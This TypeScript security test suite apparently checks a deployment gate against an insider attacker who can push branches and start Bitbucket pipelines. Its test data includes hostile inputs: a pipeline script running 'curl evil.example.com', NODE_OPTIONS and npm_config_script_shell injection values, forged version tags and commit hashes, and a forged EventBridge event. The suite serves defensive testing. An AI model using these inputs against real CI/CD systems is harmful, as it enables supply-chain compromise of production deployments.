import assert from "node:assert/strict";
import { buildspec } from "../../components/account/build";
import { handler } from "../../lambda/gate/handler";
import type { Answer } from "../../lambda/gate/contract";
import { accountNames } from "../../model/names";
import { accountRun, judge, roleOf } from "../components/account/pipeline-roles/iam";
import {
  approval,
  baseline,
  functionArn,
  grace,
  linus,
  margaret,
  merge,
  source,
  update,
  version,
  World,
} from "../lambda/gate/world";

const three = [approval(grace, 10), approval(linus, 11), approval(margaret, 12)];
const approved = [update(0), ...three];
const hash = (digit: string): string => digit.repeat(40);

/**
 * Mallory may push any branch of both repositories, open merge requests, start pipelines by API with any file and any
 * variables, and read all that a step sees. Nobody approves what she does. She is after prod.
 */
describe("Mallory, who may push branches and start pipelines,", () => {
  let world: World;
  beforeEach(async () => {
    world = await World.start();
    world.merged(approved);
  });
  afterEach(() => world.stop());

  const said = (answer: Answer): string => JSON.stringify(answer);

  /** Starts a run at Bitbucket as its API lets her. @returns the run's UUID. */
  async function startRun(query: string, type: string, body: string): Promise<string> {
    const { bitbucket } = world;
    bitbucket.addToken("mallory", {
      who: { uuid: "{mallory}", display_name: "Mallory", type: "user" },
      scopes: ["write:pipeline"],
    });
    bitbucket.state.repositories.get("onebox")?.branches.set("master", merge);
    const response = await fetch(`${bitbucket.url}/2.0/repositories/example/onebox/pipelines${query}`, {
      method: "POST",
      headers: { authorization: "Bearer mallory", "content-type": type },
      body,
    });
    assert.equal(response.status, 201, await response.clone().text());
    return ((await response.json()) as { uuid: string }).uuid;
  }

  /** The run's step asks, with all that a step in prod's deployment environment has. */
  async function askFrom(run: string, question: object): Promise<Answer> {
    world.furnishStep();
    const step = "{88888888-8888-4888-8888-888888888888}";
    world.bitbucket.state.repositories
      .get("onebox")
      ?.pipelines.get(run)
      ?.steps.set(step, { state: { name: "IN_PROGRESS" } });
    return world.call({ token: await world.token({ pipelineUuid: run }), ...question });
  }

  it("sends a pipeline of her own along, on master, with an approved commit: her step gets no session, only a build of that commit", async () => {
    const yaml =
      "pipelines: { default: [{ step: { oidc: true, deployment: prod, script: [curl evil.example.com] } }] }";
    const run = await startRun(
      "?target.type=pipeline_ref_target&target.ref_type=branch&target.ref_name=master",
      "application/yaml",
      yaml,
    );
    for (const want of ["session", "credentials", "open"]) {
      assert.match(said(await askFrom(run, { want, version: null })), /not asked as it has to be/);
    }
    const answer = await askFrom(run, { want: "deploy", act: "apply", version: null });
    assert.equal(answer.decision, "started");
    assert.doesNotMatch(said(answer), /AccessKeyId|SecretAccessKey|SessionToken/);
    assert.equal(world.builds.orderOf(world.builds.last)["ONEBOX_COMMIT"], merge);
    for (const action of ["sts:AssumeRole", "sts:AssumeRoleWithWebIdentity"]) {
      const role = roleOf(await accountRun(), "onebox-infrastructure");
      assert.notEqual(
        await judge(role, {
          action: "sts:AssumeRole",
          resource: accountNames("123456789012", "us-east-1", "onebox").deployRole("prod").arn,
        }),
        "Allowed",
        action,
      );
    }
  });

  it("starts a run of the repository's own file with NODE_OPTIONS: no variable of hers is in the build", async () => {
    const target = { type: "pipeline_ref_target", ref_type: "branch", ref_name: "master" };
    const variables = [
      { key: "NODE_OPTIONS", value: "--import=data:text/javascript,process.exit()" },
      { key: "npm_config_script_shell", value: "/bin/true" },
    ];
    const run = await startRun("", "application/json", JSON.stringify({ target, variables }));
    const question = { want: "deploy", act: "apply", version: null, variables, NODE_OPTIONS: "--import=x" };
    assert.equal((await askFrom(run, question)).decision, "started");
    const sent = JSON.stringify(world.builds.started);
    assert.doesNotMatch(sent, /NODE_OPTIONS|npm_config|import/);
    const names = Object.keys(world.builds.orderOf(world.builds.last));
    assert.ok(
      names.every((name) => name.startsWith("ONEBOX_")),
      names.join(),
    );
    // Nor could the gate send another one.
    const role = roleOf(await accountRun(), "onebox-gate");
    const { arn: resource } = accountNames("123456789012", "us-east-1", "onebox").deployBuild("prod");
    const mayStart = (sent: readonly string[]) =>
      judge(role, {
        action: "codebuild:StartBuild",
        resource,
        context: { "codebuild:environment.environmentVariables.name": sent },
      });
    assert.equal(await mayStart(names), "Allowed");
    for (const name of ["NODE_OPTIONS", "ONEBOX_REPOSITORY", "ONEBOX_BRANCH", "ONEBOX_STACK"])
      assert.notEqual(await mayStart([...names, name]), "Allowed", name);
  });

  it("writes whatever she likes into the pipeline file and the caches: what the build runs stands in the account's stack", () => {
    const account = accountNames("123456789012", "us-east-1", "onebox");
    const spec = buildspec({ tokenSecretName: account.gate.tokenSecret.name, script: "deploy", variables: {} });
    assert.doesNotMatch(spec, /buildspec\.yml|"cache"|"artifacts"/);
    assert.match(spec, /npm ci --omit=dev --ignore-scripts/);
    assert.ok(spec.indexOf("git checkout --quiet --detach") < spec.indexOf("npm ci"));
  });

  it("pushes 9.9.9-evil under an approved commit's digits: a commit has one version", async () => {
    world.merged(approved, { repository: "hr-app" });
    for (const tag of [`9.9.9-evil-${source.slice(0, 12)}`, `1.4.2.1-${source.slice(0, 12)}`]) {
      const answer = await world.ask({ version: tag });
      assert.match(said(answer), /whose only version is 1\.4\.2-b2b2b2b2b2b2/, tag);
    }
    assert.deepEqual(world.builds.builds, []);
    assert.equal((await world.ask({ version })).decision, "started");
  });

  it("pushes an image from a step: no role that a step can open may push", async () => {
    const { imageRepository } = accountNames("123456789012", "us-east-1", "onebox");
    const run = await accountRun();
    for (const role of ["onebox-application", "onebox-infrastructure", "onebox-deploy-dev", "onebox-gate"]) {
      for (const action of ["ecr:PutImage", "ecr:InitiateLayerUpload"]) {
        assert.notEqual(await judge(roleOf(run, role), { action, resource: imageRepository.arn }), "Allowed", role);
      }
    }
  });

  it("merges X, which nobody approved, and has Y approved on top of it: X is named", async () => {
    const [x, mergeX] = [hash("1"), hash("2")];
    world.known("onebox", x, [baseline]);
    world.known("onebox", mergeX, [baseline, x]);
    world.merged([update(0, x)], {
      source: { branch: { name: "x" }, commit: { hash: x } },
      merge_commit: { hash: mergeX },
    });
    const history = world.bitbucket.state.repositories.get("onebox")?.history;
    history?.set(source, { parents: [mergeX] });
    history?.set(merge, { parents: [mergeX, source] });
    assert.match(said(await world.ask()), /Merge request #35 has 0 of 3 approvals/);
    assert.deepEqual(world.builds.builds, []);
  });

  it("pushes a twin with the same twelve digits after the approvals: the log's empty entry is a push, and Bitbucket knows two", async () => {
    const twin = `${source.slice(0, 12)}${"e".repeat(28)}`;
    const request = world.bitbucket.state.repositories.get("onebox")?.pullRequests.get(34);
    request?.activity.splice(1, 0, update(30, twin));
    assert.match(said(await world.ask()), /given before the last update of 2026-11-24T08:30/);
    world.known("onebox", twin, [baseline]);
    assert.match(said(await world.ask()), /so nothing is known/);
    assert.deepEqual(world.builds.builds, []);
  });

  it("approves, as one of three, what she wrote herself and had a colleague open: her word does not count", async () => {
    world.bitbucket.state.repositories.get("onebox")?.history.set(source, { parents: [baseline], author: linus });
    assert.match(said(await world.ask()), /linus does not count: commits of it are their own/);
  });

  it("forges EventBridge's event: nothing is mailed, and her role may not call what EventBridge calls", async () => {
    const event = { source: "aws.ssm", "detail-type": "Parameter Store Change", detail: { name: "override" } };
    world.furnishStep();
    assert.equal((await world.call(event)).decision, "shut");
    assert.deepEqual(world.mails, []);
    await handler(event, { invokedFunctionArn: `${functionArn}:override` });
    assert.equal(world.mails.length, 1);
    const { gate } = accountNames("123456789012", "us-east-1", "onebox");
    for (const name of ["onebox-infrastructure", "onebox-application", "onebox-deploy-dev"]) {
      const call = { action: "lambda:InvokeFunction", resource: gate.overrideAlias.arn };
      assert.notEqual(await judge(roleOf(await accountRun(), name), call), "Allowed", name);
    }
  });
});
